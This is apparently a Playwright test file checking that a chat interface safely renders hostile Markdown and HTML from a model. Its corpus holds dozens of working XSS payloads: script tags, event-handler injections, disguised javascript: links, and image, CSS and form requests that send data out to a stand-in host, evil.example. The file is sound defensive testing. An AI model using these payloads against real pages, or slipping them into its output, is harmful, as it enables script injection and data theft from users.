"""Hostile output of a model: no script runs, no request goes to another host, and the page keeps working."""

import pytest
from playwright.async_api import Page, Route

from .conftest import open_page, send_message, wait_for_reply

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

EVIL = "http://evil.example"

CORPUS = {
    "script": "<script>window.pwned = 1; fetch('http://evil.example/s')</script>",
    "script in text": "before <ScRiPt src=http://evil.example/x.js></sCrIpT> after",
    "onerror": '<img src=x onerror="window.pwned = 1">',
    "onload svg": '<svg onload="window.pwned = 1"><circle r=9 /></svg>',
    "svg use": '<svg><use href="http://evil.example/x.svg#a"/><animate onbegin="window.pwned=1"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
    "mathml href": '<math href="javascript:window.pwned=1">click</math>',
    "iframe": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
    "javascript link": "[click me](javascript:window.pwned=1)",
    "javascript link, disguised": "[click](java&#115;cript:window.pwned=1) [b](\x01javascript:window.pwned=1) [c](<java\tscript:window.pwned=1>)",
    "javascript autolink": "<javascript:window.pwned=1>",
    "vbscript and data": "[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4=) [c](blob:x) [d](file:///etc/passwd)",
    "remote image": "![a chart](http://evil.example/leak?q=secret)",
    "reference image": "![a][b]\n\n[b]: http://evil.example/leak",
    "data image": "![](data:image/svg+xml,%3Csvg onload=alert(1)%3E)",
    "image in link": "[![x](http://evil.example/i.png)](http://evil.example/l)",
    "image with handler": '![x" onerror="window.pwned=1](http://evil.example/i.png)',
    "title with handler": "[x](http://evil.example/ \"a' onmouseover='window.pwned=1\")",
    "style": "<style>body{background:url(http://evil.example/css)} .user-text{display:none}</style>",
    "style attribute": '<p style="background:url(http://evil.example/attr);position:fixed;inset:0">x</p>',
    "link and base": '<link rel=stylesheet href=http://evil.example/a.css><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">',
    "form": '<form action="http://evil.example/f"><input name=a><button>go</button></form>',
    "clobbering": "<form id=location><input name=body></form><a id=legato name=legato href=x>x</a>",
    "code language": '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "code": "```html\n<script>window.pwned = 1</script>\n```",
    "table": "| <img src=x onerror=window.pwned=1> | `b` |\n|---|---|\n| <script>window.pwned=1</script> | x |",
    "half a tag": "text <img src=http://evil.example/half ",
    "comment": "<!--><img src=x onerror=window.pwned=1>-->",
    "cdata": "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "template": "<template><script>window.pwned=1</script></template>",
    "custom": "<x-a onclick=window.pwned=1 tabindex=1 onfocus=window.pwned=1 autofocus>x</x-a>",
    "bidi and control": "a\u202egpj.exe\u0000\ufeff <b>x</b>",
}

FORBIDDEN = "script, style, link, base, meta, iframe, object, embed, form, input, img, svg, math, template, noscript, video, audio"


async def record_violations(page: Page) -> list[str]:
    """Record requests to the hostile host, dialogs and popups. The list stays empty if nothing happens."""
    violations: list[str] = []

    async def refuse(route: Route) -> None:
        violations.append(route.request.url)
        await route.abort()

    await page.route(lambda url: url.startswith(EVIL), refuse)
    page.on("request", lambda request: violations.append(request.url) if "evil" in request.url else None)
    page.on("dialog", lambda dialog: violations.append(dialog.message))
    page.on("popup", lambda popup: violations.append(popup.url))
    return violations


async def assert_harmless(page: Page, name: str) -> None:
    assert await page.locator(".prose").locator(FORBIDDEN).count() == 0, name
    assert await page.evaluate("window.pwned") is None, name
    attributes = await page.evaluate(
        """() => [...document.querySelectorAll('.prose *')].flatMap(e => [...e.attributes].map(a => [a.name, a.value]))"""
    )
    for attribute, value in attributes:
        assert attribute in {"class", "href", "target", "rel", "tabindex", "type", "start", "dir"}, (
            name,
            attribute,
        )
        if attribute == "href":
            assert value.startswith(("http://", "https://", "mailto:")), (name, value)
    assert page.url.startswith("http://127.0.0.1")


async def test_hostile_markdown_does_nothing(page: Page) -> None:
    violations = await record_violations(page)
    await open_page(page)
    for count, (name, text) in enumerate(CORPUS.items()):
        await send_message(page, text)
        await wait_for_reply(page, count + 1)
        await assert_harmless(page, name)
        assert violations == [], name
    await page.reload()
    await wait_for_reply(page, len(CORPUS))
    await assert_harmless(page, "all of it, after a reload")
    assert violations == []


@pytest.mark.parametrize(
    "text",
    [
        "> " * 3000 + "deep",
        "- " * 3000 + "deep",
        "\n".join(" " * depth * 2 + "- x" for depth in range(120)),
        "[" * 10_000,
        "*a " * 5_000,
        "|a" * 800 + "|\n" + "|-" * 800 + "|\n" + ("|1" * 800 + "|\n") * 5,
    ],
    ids=["quotes", "lists", "indented lists", "brackets", "emphasis", "a huge table"],
)
async def test_text_that_overloads_the_parser_is_shown_and_the_page_keeps_working(
    page: Page, text: str
) -> None:
    await open_page(page)
    await send_message(page, text)
    assert (await wait_for_reply(page)).strip()
    await send_message(page, "still there")
    assert await wait_for_reply(page, 2) == "still there"


async def test_a_link_opens_in_a_new_tab_without_access_to_the_page(page: Page) -> None:
    await open_page(page)
    await send_message(
        page, "see [the docs](https://example.org/docs) and ![a picture](https://example.org/i.png)"
    )
    await page.locator(".reply .reply-stats").wait_for(state="attached")
    for link in await page.locator(".prose a").all():
        assert await link.get_attribute("target") == "_blank"
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert await page.locator(".prose a").all_inner_texts() == ["the docs", "a picture"]
